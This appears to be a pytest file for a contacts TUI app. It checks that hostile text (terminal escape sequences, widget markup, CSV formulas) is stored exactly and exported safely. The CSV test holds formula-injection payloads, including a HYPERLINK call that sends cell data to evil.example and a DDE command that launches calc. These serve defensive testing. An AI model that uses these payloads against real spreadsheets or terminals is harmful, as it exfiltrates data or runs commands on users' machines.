"""Hostile text in names, notes and tags is data: stored and exported byte for byte, shown
literally in every widget, and never sent to the terminal as a control sequence.

The last two are checked on what is really drawn: the widgets' rendered text (Pilot), and the
bytes the real app and the command line write to a pseudo-terminal.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import time

import pytest

from netmaint_tui.cli import main
from tests.reliability import hostile as H
from tests.reliability.helpers import PYTHON, TIMEOUT, read_for

SIZE = (120, 40)


def build(path, big: bool = True) -> dict:
    """The hostile network in `path`, through the services; returns what was typed."""
    from netmaint_tui.rules.notes import extract_tasks
    from netmaint_tui.services.contacts import add_contact
    from netmaint_tui.services.followups import add_follow_up
    from netmaint_tui.services.touches import log_touch
    from netmaint_tui.store.db import close_database, open_database
    from tests.reliability.writer import context

    open_database(path)
    try:
        ctx = context()
        eve = add_contact(ctx, H.NAME, company=H.COMPANY, role=H.ROLE, tags=H.TAGS, emails=[H.EMAIL],
                          notes=H.NOTES, tier="A", how_met=H.ZWJ)
        plain = add_contact(ctx, "Plain Person", tier="C")
        log_touch(ctx, [eve, plain], note=H.TOUCH_NOTE, minutes=30)
        add_follow_up(ctx, f"{H.OSC_8} ask about {H.MARKUP}", suggested_by=eve)
        big_note = H.big_note() if big else ""
        if big:
            log_touch(ctx, [plain], note=big_note, channel="email")
        (task,) = extract_tasks(H.TOUCH_NOTE, ctx.now())
        return {"eve": eve, "plain": plain, "big_note": big_note, "task": task.what}
    finally:
        close_database()


def dump(path) -> dict:
    """Every piece of user text in the file, as stored (text compared as bytes)."""
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    conn.text_factory = bytes
    try:
        return {
            "contacts": conn.execute(
                "SELECT name, company, role, emails, notes, how_met FROM contact ORDER BY name").fetchall(),
            "tags": sorted(conn.execute(
                "SELECT c.name, t.name FROM contact_tag ct JOIN contact c ON c.id = ct.contact_id "
                "JOIN tag t ON t.id = ct.tag_id").fetchall()),
            "touches": sorted(conn.execute("SELECT note, channel, minutes FROM touch").fetchall()),
            "follow_ups": sorted(conn.execute("SELECT what FROM follow_up").fetchall()),
        }
    finally:
        conn.close()


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "netmaint.db"
    typed = build(path)
    return path, typed


@pytest.fixture(scope="module")
def hostile_small_db(tmp_path_factory):
    """The same without the 1 MB note (PyYAML takes seconds over a megabyte)."""
    path = tmp_path_factory.mktemp("hostile-small") / "netmaint.db"
    return path, build(path, big=False)


def test_hostile_text_is_stored_byte_for_byte(hostile_db):
    path, typed = hostile_db
    stored = dump(path)
    eve = next(c for c in stored["contacts"] if c[0] == H.NAME.encode())
    assert eve == (H.NAME.encode(), H.COMPANY.encode(), H.ROLE.encode(),
                   json.dumps([H.EMAIL], ensure_ascii=False).encode(), H.NOTES.encode(), H.ZWJ.encode())
    assert sorted(t for n, t in stored["tags"] if n == H.NAME.encode()) == sorted(t.encode() for t in H.TAGS)
    notes = [t[0] for t in stored["touches"]]
    assert H.TOUCH_NOTE.encode() in notes and typed["big_note"].encode() in notes
    assert (typed["task"].encode(),) in stored["follow_ups"]
    assert "[@click=app.quit]" in typed["task"] and H.OSC_52 in typed["task"]  # the task line is kept as typed


@pytest.mark.parametrize("fmt", ["json", "yaml"])
def test_an_export_imported_into_a_new_database_gives_the_same_bytes(hostile_db, hostile_small_db, tmp_path,
                                                                      capsys, fmt):
    path, _ = hostile_db if fmt == "json" else hostile_small_db
    first = tmp_path / f"first.{fmt}"
    assert main(["export", fmt, "--db", str(path), "-o", str(first)]) == 0
    fresh = tmp_path / "fresh.db"
    assert main(["import", "json", str(first), "--db", str(fresh)]) == 0
    capsys.readouterr()
    assert dump(fresh) == dump(path)
    second = tmp_path / f"second.{fmt}"
    assert main(["export", fmt, "--db", str(fresh), "-o", str(second)]) == 0
    assert second.read_bytes() == first.read_bytes()
    # The file itself is safe to `cat`: no raw control character (JSON and YAML escape them).
    text = first.read_text(encoding="utf-8")
    for label, payload in H.FORBIDDEN.items():
        assert payload not in text, label
    assert "\x1b" not in text


def test_csv_export_keeps_the_text_and_neutralizes_formulas(tmp_path, capsys, cli):
    from netmaint_tui.services.contacts import add_contact
    from netmaint_tui.store.db import close_database, open_database
    from tests.reliability.writer import context

    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1-555-0100", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "\r=1+1", " =cmd|' /C calc'!A0"]
    open_database(cli.db)
    ctx = context()
    for i, cell in enumerate(formulas):
        add_contact(ctx, cell if i else H.NAME, company=cell, notes=cell + H.NOTES, tags=[cell])
    close_database()
    target = tmp_path / "contacts.csv"
    assert main(["export", "csv", "-o", str(target)]) == 0
    import csv

    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(formulas)
    for row in rows:
        for column, cell in row.items():
            if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")):
                pytest.fail(f"{column} would run as a formula: {cell!r}")
    by_company = {row["company"]: row for row in rows}
    for cell in formulas:
        assert by_company["'" + cell]["notes"] == "'" + cell + H.NOTES  # neutralized, otherwise exact
    assert H.NAME in {row["name"] for row in rows}
